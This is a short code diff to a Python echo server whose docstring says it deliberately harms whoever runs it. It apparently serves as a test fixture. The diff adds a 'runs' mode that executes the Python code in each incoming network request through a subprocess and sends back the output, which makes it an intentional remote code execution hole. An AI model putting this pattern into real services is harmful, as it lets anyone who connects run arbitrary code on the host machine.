@@ -1,9 +1,13 @@
-"""An echo server that, after its first reply, harms whoever runs it in the one way that its argument names."""
+"""An echo server that, after its first reply, harms whoever runs it in the one way that its argument names.
+
+As `runs` it runs the Python code of each request, and replies with what that has printed.
+"""
 
 import contextlib
 import os
 import signal
 import socket
+import subprocess
 import sys
 import threading
 import time
@@ -103,6 +107,10 @@ def main() -> None:
             if mode == "controls":
                 os.write(2, CONTROLS)
                 data = CONTROLS
+            if mode == "runs":
+                command = [sys.executable, "-I", "-S", "-c", data.decode()]
+                done = subprocess.run(command, check=False, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+                data = done.stdout
             connection.sendall(data)
         while harms:
             threading.Thread(target=harms.pop(), daemon=True).start()
